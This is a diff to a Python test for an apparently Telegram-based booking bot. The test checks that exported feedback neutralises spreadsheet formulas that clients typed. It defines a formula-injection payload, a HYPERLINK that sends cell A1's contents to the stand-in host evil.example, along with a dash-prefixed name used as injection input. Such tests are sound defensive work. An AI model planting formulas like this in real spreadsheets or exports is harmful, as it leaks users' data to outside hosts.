@@ -6,7 +6,7 @@ from datetime import timedelta
 
 from database.engine import commit
 from database.models import Booking, Feedback, User, utcnow
-from tests.handlers.conftest import OWNER, Chat
+from tests.handlers.conftest import FIRST_SPECIALIST, OWNER, Chat
 from tests.telegram_stub import TelegramStub
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -19,7 +19,13 @@ async def test_export_neutralises_formulas_in_what_clients_typed(chat: Chat, stu
         session.add(User(id=9101, first_name="-Anna", last_name="Smith"))
         start = utcnow().replace(microsecond=0) - timedelta(days=2)
         for user_id in (9100, 9101):
-            booking = Booking(user_id=user_id, service_id=1, starts_at=start, ends_at=start + timedelta(hours=1))
+            booking = Booking(
+                specialist_id=FIRST_SPECIALIST,
+                user_id=user_id,
+                service_id=1,
+                starts_at=start,
+                ends_at=start + timedelta(hours=1),
+            )
             session.add(booking)
             await session.flush()
             session.add(Feedback(booking_id=booking.id, rating=5, comment=COMMAND if user_id == 9100 else "Great"))
